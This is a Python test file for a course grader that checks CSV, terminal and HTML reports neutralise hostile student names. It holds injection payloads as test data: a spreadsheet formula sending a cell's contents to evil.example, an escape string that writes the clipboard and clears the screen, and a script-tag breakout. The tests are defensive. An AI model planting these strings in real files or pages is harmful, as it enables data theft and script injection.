"""Learner text is data: a hostile name and message reach the CSV files as text (never a formula), the
terminal without any escape sequence, and the HTML page without ending or swallowing its script."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from db import recording
from db.session import open_database
from grader import __version__
from grader.results import RunResult, TestResult

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CLIPBOARD = "mallory\x1b]52;c;ZXZpbCBjb21tYW5k\x07\x1b[2J\u202eevil"  # OSC 52, clear screen, bidi override
SCRIPT = "</script><script>alert(1)</script><!--<script>"
NAMES = [FORMULA, "+1-555", "-2+3", "@SUM(A1)", "\tTAB", CLIPBOARD, SCRIPT]


@pytest.fixture
def hostile_class(db_url):
    database = open_database(db_url)
    for name in NAMES:
        message = f"{name} wrong values"
        tests = [TestResult("t1", "neuron", False, 0.0, 12.0, message, "failed")]
        run = RunResult("neurons", name, 0.0, 12.0, "failed", tests, output=f"{name}\n", grader_version=__version__)
        recording.record_submission(database, run, "x")
        recording.record_quiz_answer(database, name, "neurons", "neurons.1", name, False)
    return database


def test_csv_cells_are_never_formulas(cli, hostile_class):
    outputs = [
        cli("report", "--csv").output,
        cli("report", "--exercise", "neurons", "--csv").output,
        cli("report", "--quiz", "1", "--csv").output,
    ]
    outputs += [cli("export", "csv", "-", "--format", fmt).output for fmt in ("plain", "canvas", "moodle")]
    for output in outputs:
        for row in csv.reader(io.StringIO(output)):
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (cell, output[:200])
    plain = list(csv.DictReader(io.StringIO(cli("export", "csv", "-").output)))
    expected = ["'" + n if n[0] in "=+-@\t" else n for n in NAMES]
    assert sorted(r["student"] for r in plain) == sorted(expected)  # the text itself is kept, behind the quote


def test_terminal_output_carries_no_escape_sequence(hostile_class):
    from grader.reports import class_report, drilldown, terminal

    reports = [
        class_report.class_report(hostile_class),
        drilldown.exercise_report(hostile_class, "neurons"),
        drilldown.quiz_report(hostile_class, "1"),
        drilldown.student_report(hostile_class, CLIPBOARD),
    ]
    for report in reports:
        stream = io.StringIO()
        terminal.render(report, stream)
        text = stream.getvalue()
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, report["report"]
    stream = io.StringIO()
    terminal.render(reports[3], stream)
    assert "mallory]52;c;ZXZpbCBjb21tYW5k[2Jevil" in stream.getvalue()  # shown, harmless, not dropped


def test_html_keeps_one_script_and_the_data_intact(cli, hostile_class, tmp_path):
    for args in ([], ["--exercise", "neurons"], ["--quiz", "1"], ["--student", SCRIPT]):
        path = tmp_path / "page.html"
        assert cli("report", *args, "--html", str(path)).exit_code == 0
        page = path.read_text()
        assert len(re.findall(r"<script\b", page, re.I)) == 2, args  # the data and the sorting script
        assert len(re.findall(r"</script", page, re.I)) == 2 and "<!--" not in page, args
        data = json.loads(re.search(r'id="report-data">(.*?)</script>', page, re.S).group(1))
        if not args or args[0] == "--student":
            assert SCRIPT in json.dumps(data, ensure_ascii=False), args  # the name itself survives, as data
    assert "&lt;/script&gt;&lt;script&gt;alert(1)" in page  # and shows as text in the tables
